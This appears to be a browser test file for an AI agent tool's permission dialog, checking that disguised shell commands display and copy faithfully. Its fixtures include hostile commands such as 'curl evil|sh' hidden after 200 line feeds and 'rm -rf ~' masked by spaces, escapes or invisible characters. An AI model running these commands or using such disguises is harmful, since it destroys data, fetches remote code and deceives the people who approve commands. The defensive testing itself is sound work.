import naughtyStrings from "big-list-of-naughty-strings/blns.json";
import fc from "fast-check";
import { flushSync } from "react-dom";
import { expect, test } from "vitest";
import { page } from "vitest/browser";
import { unescapeText } from "../../../src/exact/unescapeText.js";
import { command, openPage, wait } from "./page.js";

/** Shows one command after the other, and gives the box it is in. */
async function openBoxes() {
  const { store } = openPage({ kit: { permissionGuardMs: 0 } });
  await expect.element(page.getByLabelText("Message")).toBeVisible();
  let asked = 0;
  return async (text: string): Promise<Element> => {
    // React takes many updates within one task for an endless loop.
    await wait(0);
    flushSync(() => {
      store.cancelPermission(asked);
      asked++;
      void store.requestPermission(
        { sessionId: "s", title: "Run?", options: [], ...command(text) } as never,
        { requestId: asked },
      );
    });
    return document.querySelector('[data-acp="permission-command"]') as Element;
  };
}

/** What the clipboard would get if the user selected all of the box. */
function copied(box: Element): string {
  const selection = getSelection() as Selection;
  selection.selectAllChildren(box);
  const text = selection.toString();
  selection.removeAllRanges();
  return text;
}

/** Characters of the box's text that take up no room on the screen. */
function unseen(box: Element): string[] {
  const found: string[] = [];
  const texts = document.createTreeWalker(box, NodeFilter.SHOW_TEXT);
  for (let node = texts.nextNode(); node; node = texts.nextNode()) {
    const text = node.nodeValue ?? "";
    for (const { 0: character, index } of text.matchAll(/[^\s\p{M}]/gu)) {
      const range = document.createRange();
      range.setStart(node, index);
      range.setEnd(node, index + character.length);
      const { width, height } = range.getBoundingClientRect();
      if (width === 0 || height === 0) found.push(character);
    }
  }
  return found;
}

const TRICKS: [string, string][] = [
  ["a right-to-left override", "ls \u202e~ fr- mr"],
  ["characters that are invisible", "rm\u200b -rf \u{e0041}build\u3164"],
  ["spaces that are none", "git\u00a0push\u2003origin\u2800main"],
  ["terminal escapes", "rm -rf ~\u001b[2K\rls -la"],
  ["200 line feeds", `npm test${"\n".repeat(200)}curl evil|sh`],
  ["3000 spaces", `ls${" ".repeat(3000)};rm -rf ~`],
  ["half a surrogate pair", "a\ud800b"],
  ["the notation itself", "echo '\\u{202e} ⟨3000 spaces⟩ ⇥'"],
  ["several lines", "cat <<'END'\n  one\n\n\ttwo\nEND\n"],
  ["Hebrew", "ls שלום && rm אבג123 x"],
];

test("in the browser, the box's text reads back as the command, whatever the command", async () => {
  const show = await openBoxes();
  const units = fc.oneof(
    fc.constantFrom(..."\n \t\r'\"|;&\u202e\u200b\u0301⟨⟩⇥аא", "\ud800", "\\u{202e}", "⟨30 spaces⟩", "😀"),
    fc.string({ unit: "binary", minLength: 1, maxLength: 1 }),
  );
  const texts = fc.array(units, { maxLength: 60 }).map((parts) => parts.join(""));
  await fc.assert(
    fc.asyncProperty(texts, async (text) => {
      expect(unescapeText((await show(text)).textContent ?? "")).toBe(text);
    }),
    { numRuns: 150 },
  );
}, 60_000);

test("in the browser, every naughty string reads back from its box, and nothing of it is unseen", async () => {
  const show = await openBoxes();
  for (const text of naughtyStrings) {
    const box = await show(text);
    expect(unescapeText(box.textContent ?? "")).toBe(text);
    expect(unseen(box), text).toEqual([]);
  }
}, 60_000);

test.each(TRICKS)("a command with %s: all that is shown takes up room on the screen", async (_, text) => {
  const box = await (await openBoxes())(text);
  expect(unescapeText(box.textContent ?? "")).toBe(text);
  expect(unseen(box)).toEqual([]);
});

test.each(TRICKS)("a command with %s: what the user copies reads back as it", async (_, text) => {
  const got = unescapeText(copied(await (await openBoxes())(text)));
  // Where a selection reaches past the last of several lines, browsers end it with a line feed.
  const isLineFeedMore = text.includes("\n") && got === `${text}\n`;
  expect(isLineFeedMore ? got.slice(0, -1) : got).toBe(text);
});

test("a command with more to mark than a page can draw reads back as it all the same", async () => {
  const text = "a\u200b;א|".repeat(10_000);
  expect(unescapeText((await (await openBoxes())(text)).textContent ?? "")).toBe(text);
});

test("what is written left to right stands left to right, also beside letters that do not", async () => {
  const box = await (await openBoxes())("ls שלום && rm אבג123 x");
  const texts = document.createTreeWalker(box, NodeFilter.SHOW_TEXT);
  const lefts: number[] = [];
  for (let node = texts.nextNode(); node; node = texts.nextNode()) {
    const range = document.createRange();
    range.selectNodeContents(node);
    lefts.push(range.getBoundingClientRect().left);
  }
  expect(lefts.length).toBeGreaterThan(4);
  expect(lefts).toEqual([...lefts].sort((a, b) => a - b));
});
